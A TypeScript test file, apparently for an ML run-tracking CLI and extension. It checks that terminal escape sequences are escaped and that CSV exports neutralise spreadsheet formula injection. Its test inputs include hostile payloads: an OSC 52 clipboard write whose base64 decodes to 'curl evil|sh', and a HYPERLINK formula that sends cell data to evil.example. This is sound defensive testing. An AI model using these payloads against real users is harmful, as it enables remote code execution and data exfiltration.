import * as assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { describe, it } from 'node:test';
import { Tracking } from '../../src/core/tracking/tracking';
import { CompareModel } from '../../src/extension/panels/compareModel';
import type { RunRow } from '../../src/protocol/runsTable';
import { fieldsOf, paramDiffCsv, runsCsv } from '../../webview/compare/runsData';
import { DEFAULT_LAYOUT, RunStore, tableCsv, visibleColumns } from '../../webview/runs/model';
import { cliPath, tmpWorkspace, writeRun } from './helpers';

/**
 * Text an attacker can put into a run (through the MLflow endpoint, an imported mlruns folder,
 * a shared workspace): terminal escape sequences that clear the screen, set the window title
 * and write the clipboard (OSC 52), a one-byte C1 CSI, a right-to-left override, a line break.
 */
const CLEAR = '\x1b[2J\x1b[H';
const TITLE = '\x1b]0;pwned\x07';
const CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsfHNo\x07';
const C1_CSI = '\x9b2J';
const RLO = '\u202e';
const HOSTILE = `run${CLEAR}${TITLE}${CLIPBOARD}${C1_CSI}${RLO}\nFAKE LINE`;
/** Anything a terminal would act on. */
const ACTS_ON_TERMINAL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

function mlops(cwd: string, ...args: string[]) {
  const r = spawnSync(process.execPath, [cliPath, ...args], { cwd, encoding: 'utf8' });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

describe('hostile text: terminal output of the CLI', () => {
  it('escapes control characters in run names, params, tags and metric keys (list, show, errors); --json keeps the values', () => {
    const ws = tmpWorkspace();
    const runId = writeRun(ws, [
      { type: 'rename', name: HOSTILE },
      { type: 'param', key: `lr${TITLE}`, value: `0.1${CLIPBOARD}\nstatus      FINISHED` },
      { type: 'tag', key: `team${RLO}`, value: `ml${CLEAR}` },
      { type: 'metric', key: `loss${C1_CSI}`, value: 0.5, step: 0 },
    ]);
    for (const args of [['runs', 'list'], ['runs', 'show', runId]]) {
      const r = mlops(ws.root, ...args);
      assert.equal(r.code, 0, r.stderr);
      assert.doesNotMatch(r.stdout, ACTS_ON_TERMINAL, `mlops ${args.join(' ')} wrote raw control characters`);
      assert.doesNotMatch(r.stdout, /^\s*FAKE LINE/m, 'a line break in a name cannot fake a line');
      assert.match(r.stdout, /run\\x1b\[2J\\x1b\[H\\x1b\]0;pwned\\x07\\x1b\]52;c;Y3VybCBldmlsfHNo\\x07\\x9b2J\\u202e\\nFAKE LINE/, 'the name is shown, escaped');
    }
    const show = mlops(ws.root, 'runs', 'show', runId).stdout;
    assert.match(show, /lr\\x1b\]0;pwned\\x07 = 0\.1\\x1b\]52;c;Y3VybCBldmlsfHNo\\x07\\nstatus      FINISHED/);
    assert.match(show, /team\\u202e = ml\\x1b\[2J\\x1b\[H/);
    assert.match(show, /loss\\x9b2J = 0\.5/);

    // An error quoting what the user typed.
    const unknown = mlops(ws.root, 'runs', 'show', `nope${TITLE}`);
    assert.equal(unknown.code, 2);
    assert.match(unknown.stderr, /No run has the id "nope\\x1b\]0;pwned\\x07"/);
    assert.doesNotMatch(unknown.stderr, ACTS_ON_TERMINAL);

    // --json: the same values, in JSON that no terminal acts on either.
    const json = mlops(ws.root, 'runs', 'show', runId, '--json').stdout;
    assert.doesNotMatch(json, ACTS_ON_TERMINAL);
    const parsed = JSON.parse(json);
    assert.equal(parsed.name, HOSTILE);
    assert.equal(parsed.tags[`team${RLO}`], `ml${CLEAR}`);
  });
});

/** RFC 4180 cells of a CSV text (enough for these tests: quoted fields with "" and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; }
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; }
    else if (c === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; }
    else cell += c;
  }
  return rows;
}

/** Cells a spreadsheet would run as a formula: text starting with =, +, -, @, tab or CR (plain numbers are numbers). */
function formulaCells(csv: string): string[] {
  return parseCsv(csv).flat().filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?(\d+\.?\d*(e[+-]?\d+)?|Infinity)$/i.test(c));
}

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

describe('hostile text: CSV exports', () => {
  it('neutralise text cells that start with =, +, -, @, tab or CR in every export; numbers like -0.5 stay numbers', async () => {
    const ws = tmpWorkspace();
    const ids = FORMULAS.map((f, i) => writeRun(ws, [
      { type: 'rename', name: f },
      { type: 'param', key: f, value: FORMULAS[(i + 1) % FORMULAS.length] },
      { type: 'param', key: 'lr', value: '-0.5' },
      { type: 'metric', key: f, value: -0.5, step: 0 },
      { type: 'metric', key: 'loss', value: -0.25, step: 0 },
    ]));
    const tracking = await Tracking.open(ws.root);
    try {
      const model = new CompareModel(() => tracking, ids);
      const data = model.load();
      const exports: Record<string, string> = {
        'metric points (host)': model.csv(FORMULAS[0]),
        'parameter table': paramDiffCsv(data.runs, false),
        'runs (parallel/scatter)': runsCsv(data.runs, fieldsOf(data.runs, data.metricKeys)),
      };
      const store = new RunStore();
      store.load({
        paramKeys: [...FORMULAS, 'lr'],
        metricKeys: ['loss'],
        rows: data.runs.map((r): RunRow => ({
          id: r.id, name: r.name, experiment: FORMULAS[2], status: 'FINISHED', source: 'script', start: 0, end: 1000,
          params: [...FORMULAS.map((f) => r.params[f] ?? null), r.params.lr], metrics: [-0.25, -0.25, -0.25],
        })),
      });
      exports['runs table'] = tableCsv([...store.rows.values()], visibleColumns(store.columns, DEFAULT_LAYOUT), 1000);

      for (const [name, csv] of Object.entries(exports)) {
        assert.deepEqual(formulaCells(csv), [], `${name} export holds formula cells`);
        const cells = parseCsv(csv).flat();
        assert.ok(cells.includes(`'${FORMULAS[0]}`), `${name}: the name is kept behind a '`);
        assert.ok(cells.includes('-0.5') || cells.includes('-0.25'), `${name}: negative numbers stay numbers`);
      }
      assert.ok(parseCsv(exports['runs table']).flat().includes("'\t=1+1"));
      assert.ok(parseCsv(exports['parameter table']).flat().includes("'\r=1+1"));
    } finally {
      tracking.close();
    }
  });
});
